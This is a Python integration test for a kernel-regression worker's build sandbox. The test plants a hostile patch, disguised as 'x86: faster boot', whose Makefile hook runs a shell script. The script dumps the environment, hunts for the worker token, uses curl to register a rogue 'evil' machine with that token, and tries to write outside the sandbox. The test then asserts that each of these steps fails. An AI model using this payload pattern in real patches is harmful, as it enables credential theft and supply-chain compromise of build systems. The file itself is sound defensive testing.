"""Worker tier, a submitted patch builds in a sandbox.

A tiny fake kernel tree (a Makefile that makes .config, bzImage and
kernel.release where the worker looks for them; a merge_config.sh) is
registered on the real server; an A/B request posts a payload patch: one
line in the Makefile's bzImage rule runs a script the patch adds, which
writes `id`, its environment, what it sees of the worker's work dir, spool
and token, and the outcome of registering a machine on the server with any
token it found, into the build dir, where the test reads it. The real
regtrack-worker (qemu-x86_64, the token in REGTRACK_TOKEN as an old
deployment gives it) builds it: the script must run unprivileged, without
the token, without the spool, without network; the job still ends (the fake
bzImage does not boot: boot-failed with the applied commit and the sandboxed
build in its log) and the server knows the worker's machine only.
The same payload through `regtrack-worker reproduce --patches`.

Needs bwrap (deploy/install-deps installs bubblewrap), gcc-12 and
qemu-system-x86_64. Run with tests/worker/run.sh.
"""
import json
import os
import re
import shutil
import subprocess
import sys
import tempfile
import time
import unittest

HERE = os.path.dirname(os.path.abspath(__file__))
TOP = os.path.dirname(os.path.dirname(HERE))
sys.path.insert(0, os.path.join(TOP, "tests", "integration"))
import harness  # noqa: E402
from fakes import MACHINE, git, git_init, stop_tree_server, tree_server  # noqa: E402

BIN = harness.BIN
CASES = os.environ.get("REGTRACK_CASES", os.path.join(TOP, "bin", "cases"))
BUILD = "demo-x86_64-defconfig-gcc-12-patched"

MAKEFILE = """\
# a fake kernel: what regtrack-worker's build looks for, nothing more
defconfig tinyconfig:
\tmkdir -p $(O)
\tprintf 'CONFIG_FAKE=y\\n' > $(O)/.config
olddefconfig:
\t@true
bzImage:
\tmkdir -p $(O)/arch/x86/boot $(O)/include/config
\tprintf 'int x;\\n' | awk '{ print }' > $(O)/x.c
\t$(CC) -c -o $(O)/x.o $(O)/x.c
\tprintf 'not a kernel\\n' > $(O)/arch/x86/boot/bzImage
\tprintf '6.1.0-fake\\n' > $(O)/include/config/kernel.release
"""

MERGE = """\
#!/bin/sh
# merge_config.sh -m -O DIR CONFIG FRAGMENT...: the fragments appended
set -e
shift; shift; dir=$1; shift; cfg=$1; shift
tmp=$(mktemp ./.tmp.config.XXXXXXXXXX)   # in the current dir, as Linux's does
cat "$cfg" "$@" > "$tmp"
mv "$tmp" "$dir/.config"
"""

# what a submitter's code would try; every line of output is the test's evidence
PAYLOAD = """\
#!/bin/sh
out="$1/payload.txt"
{
echo "uid=$(id -u) gid=$(id -g)"
echo "--- env"
env
echo "--- work dir @WORK@"
ls -la "@WORK@" 2>&1 || echo "work dir: not visible"
echo "--- spool"
ls -la "@WORK@/spool" 2>&1 || echo "spool: not visible"
echo "--- proc"
cat /proc/1/cmdline 2>&1 | tr '\\0' ' '; echo
tok=$(env | sed -n 's/^REGTRACK_TOKEN=//p')
echo "--- register with token '$tok'"
curl -sS -m 5 -X POST -H "Authorization: Bearer $tok" -H 'Content-Type: application/json' \\
  -d '{"hostname":"evil","arch":"x86_64","tbox_group":"evil","capabilities":["host"],"fingerprint":{}}' \\
  @URL@/api/v1/workers/register 2>&1
echo "curl exit $?"
echo "--- write outside"
touch "@WORK@/owned" 2>&1 && echo "wrote the work dir"
echo "--- end"
} > "$out" 2>&1
"""


def make_tree(path):
    """c0: the fake kernel tree at tag v1."""
    git_init(path)
    with open(os.path.join(path, "Makefile"), "w") as f:
        f.write(MAKEFILE)
    os.makedirs(os.path.join(path, "scripts", "kconfig"))
    merge = os.path.join(path, "scripts", "kconfig", "merge_config.sh")
    with open(merge, "w") as f:
        f.write(MERGE)
    os.chmod(merge, 0o755)
    git(path, "add", "Makefile", "scripts")
    git(path, "commit", "-q", "-m", "fake kernel", date="2026-01-01T00:00:00Z")
    return {"c0": git(path, "rev-parse", "HEAD")}


def payload_mbox(repo, work, url):
    """The attack as a patch on c0 (made on a branch, not pushed anywhere)."""
    git(repo, "checkout", "-q", "-b", "evil")
    with open(os.path.join(repo, "Makefile"), "a") as f:
        f.write("\tsh payload.sh $(O)\n")
    with open(os.path.join(repo, "payload.sh"), "w") as f:
        f.write(PAYLOAD.replace("@WORK@", work).replace("@URL@", url))
    git(repo, "add", "Makefile", "payload.sh")
    git(repo, "commit", "-q", "-m", "x86: faster boot", date="2026-01-02T10:00:00Z")
    mbox = git(repo, "format-patch", "--stdout", "-1", "HEAD") + "\n"
    git(repo, "checkout", "-q", "master")
    return mbox


def sections(text):
    out, cur = {}, None
    for line in text.splitlines():
        if line.startswith("--- "):
            cur = line[4:].split(" ")[0]
            out[cur] = []
        elif cur:
            out[cur].append(line)
        else:
            out.setdefault("head", []).append(line)
    return out


class SandboxTest(unittest.TestCase):
    def setUp(self):
        # no skip: a worker tier without bwrap would pass without testing anything
        self.assertTrue(shutil.which("bwrap"), "no bwrap: deploy/install-deps installs bubblewrap")

    def check_payload(self, path, work, token=None):
        with open(path) as f:
            text = f.read()
        s = sections(text)
        self.assertIn("end", s, text)
        uid = re.search(r"uid=(\d+) gid=(\d+)", text)
        self.assertTrue(uid, text)
        self.assertNotEqual(uid.group(1), "0", text)
        if os.geteuid() == 0:
            self.assertEqual(uid.group(1), "65534", text)  # the build user, nobody
        else:
            self.assertEqual(int(uid.group(1)), os.geteuid(), text)
        env = dict(line.split("=", 1) for line in s["env"] if "=" in line)
        self.assertFalse([k for k in env if k.startswith("REGTRACK")], env)
        self.assertEqual(env.get("HOME"), "/tmp", env)
        if token:
            self.assertNotIn(token, text)
        # the work dir holds only the mount points of what the build needs
        names = {ln.split()[-1] for ln in s["work"][1:] if len(ln.split()) > 8}
        self.assertEqual(names - {".", ".."}, {"build", "mirrors", "src"}, text)
        self.assertIn("not visible", "\n".join(s["spool"]), text)
        self.assertNotIn("regtrack-worker", " ".join(s["proc"]), text)
        reg = "\n".join(s["register"])
        self.assertNotIn("machine_id", reg, text)
        self.assertRegex(reg, r"curl exit [1-9]", text)
        self.assertNotIn("wrote the work dir", text)
        self.assertFalse(os.path.exists(os.path.join(work, "owned")))
        return text

    def test_payload_patch_of_an_ab_request(self):
        tmp, repo, tree, srv = tree_server("regtrack-sandbox-", make_tree)
        self.addCleanup(stop_tree_server, srv, tmp)
        work = os.path.join(tmp, "work")
        os.makedirs(work)
        os.chmod(tmp, 0o700)  # the work dir's parent is no one else's business
        r = srv.post("/api/v1/trees", {"name": "demo", "url": repo, "branches": ["master"]},
                     scope="admin")
        self.assertIn(r.status, (200, 201), r)
        end = time.time() + 60
        while not [t for t in srv.get("/api/v1/trees").json()
                   if t["name"] == "demo" and t["commits"] >= 1]:
            self.assertLess(time.time(), end, "tree not mirrored")
            time.sleep(0.2)
        mbox = payload_mbox(repo, work, srv.url)
        token = srv.tokens["worker"]
        # the request's base side: run by a machine of the test's (a real worker
        # would fail it, the fake tree does not boot, and a failed base ends the
        # request before its head); the head (the patch) then goes to the real one
        fake = dict(MACHINE, hostname="base-runner", tbox_group="wt-sandbox")
        r = srv.post("/api/v1/workers/register", dict(fake, capabilities=["qemu-x86_64"],
                                                      fingerprint={}), scope="worker")
        self.assertEqual(r.status, 200, r)
        fake_id = r.json()["machine_id"]
        r = srv.post("/api/v1/requests", {
            "tree": "demo", "base": tree["c0"], "patches": mbox,
            "testcases": [{"testcase": "small-allocs", "params": {"nr_task": 1}}],
            "targets": ["x86_64"], "kconfig": "x86_64-defconfig", "repeat": 2},
            scope="submit")
        q = harness.resolved(srv, r)  # 202, then its refs resolve in the background
        self.assertEqual(q["state"], "queued", q)
        r = srv.post("/api/v1/jobs/lease", {"machine_id": fake_id, "wait_s": 0}, scope="worker")
        self.assertEqual(r.status, 200, r)
        base = r.json()["job"]
        self.assertEqual((base["side"], base.get("patches")), ("base", None), base)
        r = srv.post("/api/v1/jobs/%d/complete" % base["id"], {
            "machine_id": fake_id, "status": "ok", "log_tail": "ok\n",
            "results": [harness.result_doc(tree["c0"], testcase="small-allocs", job_id=base["id"],
                                           params=base["params"], kconfig=base["kconfig"],
                                           compiler=base["compiler"], tree="demo", machine=fake,
                                           metrics={"small-allocs.throughput": [1000.0 + i]})
                        for i in range(base["repeat"])]}, scope="worker")
        self.assertEqual(r.status, 200, r)
        log_path = os.path.join(tmp, "worker.log")
        log = open(log_path, "ab")
        self.addCleanup(log.close)
        env = dict(os.environ, REGTRACK_TOKEN=token)
        w = subprocess.Popen(
            [os.path.join(BIN, "regtrack-worker"), "run", "--server", srv.url,
             "--work-dir", work, "--tbox-group", "wt-sandbox", "--capabilities", "qemu-x86_64",
             "--cases-dir", CASES, "--lease-wait", "2", "--retry-max", "1", "--heartbeat", "1",
             "--heartbeat-run", "1", "--make-jobs", "1", "--timeout-boot", "20"],
            stdout=log, stderr=log, env=env)

        def stop():
            if w.poll() is None:
                w.terminate()
                w.wait(120)
        self.addCleanup(stop)
        # the patched job ends: its completion is logged with the applied commit
        end = time.time() + 400
        pat = re.compile(r"job (\d+): patches applied on \w+: (\w+)")
        while True:
            with open(log_path, errors="replace") as f:
                text = f.read()
            m = pat.search(text)
            if m and srv.get("/api/v1/jobs/%s" % m.group(1),
                             scope="read").json()["state"] not in ("queued", "leased"):
                break
            self.assertIsNone(w.poll(), text[-3000:])
            self.assertLess(time.time(), end, text[-3000:])
            time.sleep(0.5)
        stop()
        job = srv.get("/api/v1/jobs/%s" % m.group(1), scope="read").json()
        payload = os.path.join(work, "build", BUILD, "payload.txt")
        self.assertTrue(os.path.exists(payload), job.get("log_tail"))
        self.check_payload(payload, work, token)
        # the job ended normally: built (sandboxed), then the fake image does not boot
        self.assertEqual((job["state"], job["outcome"]), ("done", "boot-failed"), job)
        self.assertIn("build", [p["phase"] for p in job["phase_history"]], job)
        with open(os.path.join(work, "build", BUILD, "regtrack-build.log")) as f:
            self.assertIn("sh payload.sh", f.read())
        # the real results are intact: the base side's runs, the request's verdict path
        self.assertEqual(len(srv.get("/api/v1/jobs/%d" % base["id"]).json()["runs"]),
                         base["repeat"])
        machines = srv.get("/api/v1/machines", scope="read").json()
        names = json.dumps(machines)
        self.assertNotIn("evil", names)

    def test_payload_patch_through_reproduce(self):
        tmp = tempfile.mkdtemp(prefix="regtrack-sandbox-rep-",
                               dir=os.environ.get("REGTRACK_TEST_TMP"))
        self.addCleanup(shutil.rmtree, tmp, True)
        os.chmod(tmp, 0o700)
        repo = os.path.join(tmp, "linux")
        make_tree(repo)
        work = os.path.join(tmp, "work")
        mbox = payload_mbox(repo, work, "http://127.0.0.1:9")
        mpath = os.path.join(tmp, "series.mbox")
        with open(mpath, "w") as f:
            f.write(mbox)
        env = dict(os.environ, REGTRACK_TOKEN="secret-token-of-a-worker-1234")
        r = subprocess.run(
            [os.path.join(BIN, "regtrack-worker"), "reproduce", "--kconfig", "x86_64-defconfig",
             "--testcase", "small-allocs", "--params", "nr_task=1", "--patches", mpath,
             "--work-dir", work, "--cases-dir", CASES, "--jobs", "1"],
            cwd=repo, env=env, capture_output=True, text=True, timeout=300)
        out = r.stdout + r.stderr
        self.assertEqual(r.returncode, 1, out)  # the fake image does not boot
        self.assertIn("boot-failed", out)
        payload = os.path.join(work, "build", "linux-x86_64-defconfig-gcc-12-patched",
                               "payload.txt")
        self.assertTrue(os.path.exists(payload), out)
        text = self.check_payload(payload, work, "secret-token-of-a-worker-1234")
        self.assertIn("curl exit 7", text)  # no route at all, not a refused token

    def test_reproduce_without_bwrap_refuses_patches(self):
        tmp = tempfile.mkdtemp(prefix="regtrack-sandbox-nob-",
                               dir=os.environ.get("REGTRACK_TEST_TMP"))
        self.addCleanup(shutil.rmtree, tmp, True)
        repo = os.path.join(tmp, "linux")
        make_tree(repo)
        work = os.path.join(tmp, "work")
        mbox = payload_mbox(repo, work, "http://127.0.0.1:9")
        mpath = os.path.join(tmp, "series.mbox")
        with open(mpath, "w") as f:
            f.write(mbox)
        # a PATH with git and make but no bwrap
        bindir = os.path.join(tmp, "bin")
        os.makedirs(bindir)
        for p in ("git", "make", "gcc-12", "sh", "rm", "mkdir", "ccache"):
            if shutil.which(p):
                os.symlink(shutil.which(p), os.path.join(bindir, p))
        env = dict(os.environ, PATH=bindir)
        r = subprocess.run(
            [os.path.join(BIN, "regtrack-worker"), "reproduce", "--kconfig", "x86_64-defconfig",
             "--testcase", "small-allocs", "--patches", mpath, "--work-dir", work,
             "--cases-dir", CASES, "--jobs", "1"],
            cwd=repo, env=env, capture_output=True, text=True, timeout=120)
        out = r.stdout + r.stderr
        self.assertNotEqual(r.returncode, 0, out)
        self.assertIn("patches are built only in a sandbox", out)
        self.assertIn("bwrap not found", out)
        self.assertFalse(os.path.exists(os.path.join(work, "build")), out)


if __name__ == "__main__":
    unittest.main()
